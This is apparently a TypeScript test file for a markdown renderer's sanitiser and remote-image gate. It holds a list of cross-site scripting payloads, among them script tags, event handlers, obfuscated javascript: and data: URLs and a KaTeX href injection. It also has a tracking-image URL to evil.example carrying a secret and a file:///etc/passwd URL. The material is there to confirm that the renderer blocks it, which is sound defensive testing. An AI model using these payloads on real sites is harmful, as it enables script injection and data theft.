import { cleanup, fireEvent, render } from '@testing-library/react';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { initI18n } from '@/lib/i18n';
import { splitBlocks } from './blocks';
import { MarkdownView } from './markdown-view';
import { normalizeMath } from './normalize-math';
import { imageSource, safeUrl } from './safe-url';

/** Everything in the rendered DOM that could run code: script elements, on* attributes, and dangerous URLs. */
function executable(root: HTMLElement): string[] {
  const found: string[] = [];
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'style', 'form', 'svg', 'base', 'meta', 'link'].includes(tag) && !el.closest('.katex, .md-code__bar')) found.push(`<${tag}>`);
    for (const attr of el.attributes) {
      if (/^on/i.test(attr.name)) found.push(`${tag}[${attr.name}]`);
      if (['href', 'src', 'xlink:href', 'action', 'formaction', 'srcdoc', 'data'].includes(attr.name.toLowerCase()) && /^(javascript|data|vbscript):/i.test([...attr.value].filter((c) => c.charCodeAt(0) > 32).join(''))) {
        found.push(`${tag}[${attr.name}=${attr.value}]`);
      }
      if (attr.name === 'style' && /expression|url\(/i.test(attr.value)) found.push(`${tag}[style]`);
    }
  }
  return found;
}

afterEach(cleanup);

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r="10"/></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '[click](  javascript:alert(1))',
  '<javascript:alert(1)>',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '![img](javascript:alert(1))',
  '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<details open ontoggle=alert(1)>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\url{javascript:alert(1)}$$',
  '$\\htmlId{x}{y}\\htmlStyle{background:url(x)}{z}$',
  '```html\n<script>alert(1)</script>\n```',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
];

describe('MarkdownView sanitising', () => {
  for (const payload of PAYLOADS) {
    it(`renders nothing executable for ${JSON.stringify(payload).slice(0, 60)}`, () => {
      const { container } = render(<MarkdownView text={payload} />);
      expect(executable(container)).toEqual([]);
    });
  }

  it('shows raw HTML as text instead of parsing it', () => {
    const { container } = render(<MarkdownView text={'before <b onclick="x()">bold</b> after'} />);
    expect(container.querySelector('b')).toBeNull();
    expect(container.textContent).toContain('<b onclick="x()">');
  });

  it('keeps web links and opens external ones without opener', () => {
    const { container } = render(<MarkdownView text={'[site](https://example.org/a?b=1) and [rel](/chat) and [mail](mailto:a@b.c)'} />);
    const links = [...container.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.org/a?b=1', '/chat', 'mailto:a@b.c']);
    expect(links[0]?.getAttribute('rel')).toContain('noopener');
    expect(links[0]?.getAttribute('target')).toBe('_blank');
  });
});

describe('MarkdownView rendering', () => {
  it('renders $…$, $$…$$, \\(…\\) and \\[…\\] with KaTeX', () => {
    const text = 'Inline $E=mc^2$ and \\(a^2+b^2=c^2\\).\n\n$$\\int_0^1 x\\,dx$$\n\n\\[\\sum_{i=1}^n i\\]';
    const { container } = render(<MarkdownView text={text} />);
    expect(container.querySelectorAll('.katex').length).toBe(4);
    expect(container.querySelectorAll('.katex-display').length).toBe(2);
    expect(container.textContent).not.toContain('\\(');
  });

  it('renders GFM tables and highlighted code with a copy button', () => {
    const { container, getByTestId } = render(<MarkdownView text={'| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\ndef f(x):\n    return x\n```'} />);
    expect(container.querySelectorAll('table td').length).toBe(2);
    expect(container.querySelector('code.hljs.language-python .hljs-keyword')?.textContent).toBe('def');
    expect(getByTestId('code-copy')).toBeTruthy();
  });

  it('renders a bad formula as an inline error, not a crash', () => {
    const { container } = render(<MarkdownView text={'$\\frac{1}{$ and more'} />);
    expect(container.textContent).toContain('and more');
  });
});

describe('MarkdownView images', () => {
  beforeAll(async () => {
    await initI18n();
  });

  it('asks no remote host for an image until the reader clicks, then loads it without a referrer', () => {
    const { container, getByTestId } = render(<MarkdownView text={'Here: ![sales chart](https://evil.example/c.png?d=SECRET)'} />);
    expect(container.querySelector('img[src^="https://"]')).toBeNull();
    expect(container.querySelectorAll('img')).toHaveLength(0);
    const gate = getByTestId('md-image-gate');
    expect(gate.tagName).toBe('BUTTON');
    expect(gate.textContent).toContain('加载图片');
    expect(gate.textContent).toContain('sales chart');
    expect(gate.textContent).toContain('来自 evil.example');
    expect(gate.textContent).not.toContain('SECRET');

    fireEvent.click(gate);
    const img = container.querySelector('img[src^="https://"]');
    expect(img?.getAttribute('src')).toBe('https://evil.example/c.png?d=SECRET');
    expect(img?.getAttribute('alt')).toBe('sales chart');
    expect(img?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(container.querySelector('[data-testid="md-image-gate"]')).toBeNull();
  });

  it('gates protocol-relative, backslash and plain-http images too, one click per image', () => {
    const text = '![a](//evil.example/a.png) ![b](/\\evil.example/b.png) ![c](http://evil.example/c.png)';
    const { container, getAllByTestId } = render(<MarkdownView text={text} />);
    expect(container.querySelectorAll('img')).toHaveLength(0);
    expect(getAllByTestId('md-image-gate')).toHaveLength(3);
    fireEvent.click(getAllByTestId('md-image-gate')[0]!);
    expect(container.querySelectorAll('img')).toHaveLength(1);
    expect(getAllByTestId('md-image-gate')).toHaveLength(2);
  });

  it('loads a linked remote image on the first click instead of following the link', () => {
    const { container, getByTestId } = render(<MarkdownView text={'[![chart](https://evil.example/c.png)](https://evil.example/page)'} />);
    expect(container.querySelectorAll('img')).toHaveLength(0);
    // fireEvent returns false when the default action (following the link) was cancelled.
    expect(fireEvent.click(getByTestId('md-image-gate'))).toBe(false);
    expect(container.querySelector('a img')?.getAttribute('src')).toBe('https://evil.example/c.png');
  });

  it("shows this site's stored files at once", () => {
    const { container, queryByTestId } = render(<MarkdownView text={'![figure](/files/uploads/fig.png)'} />);
    expect(container.querySelector('img')?.getAttribute('src')).toBe('/files/uploads/fig.png');
    expect(queryByTestId('md-image-gate')).toBeNull();
  });

  it('tells direct from remote sources by resolved origin and path', () => {
    const origin = 'https://xueba.example.org';
    expect(imageSource('/files/a.png', origin)).toEqual({ direct: true, host: 'xueba.example.org' });
    expect(imageSource('https://xueba.example.org/files/a.png', origin).direct).toBe(true);
    expect(imageSource('/api/user/info', origin).direct).toBe(false);
    expect(imageSource('/files/../api/x', origin).direct).toBe(false);
    expect(imageSource('//evil.example/files/a.png', origin)).toEqual({ direct: false, host: 'evil.example' });
    expect(imageSource('/\\evil.example/files/a.png', origin)).toEqual({ direct: false, host: 'evil.example' });
    expect(imageSource('https://xueba.example.org.evil.example/files/a.png', origin).direct).toBe(false);
  });
});

describe('normalizeMath', () => {
  it('rewrites LaTeX delimiters in prose only', () => {
    expect(normalizeMath('a \\(x\\) b')).toBe('a $x$ b');
    expect(normalizeMath('\\[x\\]')).toBe('\n$$\nx\n$$\n');
    expect(normalizeMath('`\\(x\\)` \\(y\\)')).toBe('`\\(x\\)` $y$');
    expect(normalizeMath('```\n\\(x\\)\n```\n\\(y\\)')).toBe('```\n\\(x\\)\n```\n$y$');
    expect(normalizeMath('text\n$$x^2$$\nmore')).toBe('text\n$$\nx^2\n$$\nmore');
    expect(normalizeMath('a $$x$$ b')).toBe('a $$x$$ b');
  });
});

describe('safeUrl', () => {
  it('keeps web, mail and relative URLs and drops every other scheme', () => {
    expect(safeUrl('https://a.b/c')).toBe('https://a.b/c');
    expect(safeUrl('/x:y')).toBe('/x:y');
    expect(safeUrl('#top')).toBe('#top');
    expect(safeUrl('page?q=a:b')).toBe('page?q=a:b');
    for (const bad of ['javascript:alert(1)', ' javascript:x', 'java\nscript:x', 'DATA:text/html,x', 'vbscript:x', 'file:///etc/passwd', 'blob:x']) expect(safeUrl(bad)).toBe('');
  });
});

describe('splitBlocks', () => {
  it('splits at blank lines but keeps code, formulas and indented continuations whole', () => {
    expect(splitBlocks('a\nb\n\nc')).toEqual(['a\nb', 'c']);
    expect(splitBlocks('```\nx\n\ny\n```\n\nz')).toEqual(['```\nx\n\ny\n```', 'z']);
    expect(splitBlocks('$$\nx\n\ny\n$$\nz')).toEqual(['$$\nx\n\ny\n$$\nz']);
    expect(splitBlocks('1. item\n\n    code in item\n\nnext')).toEqual(['1. item\n\n    code in item', 'next']);
    expect(splitBlocks('')).toEqual([]);
  });
});
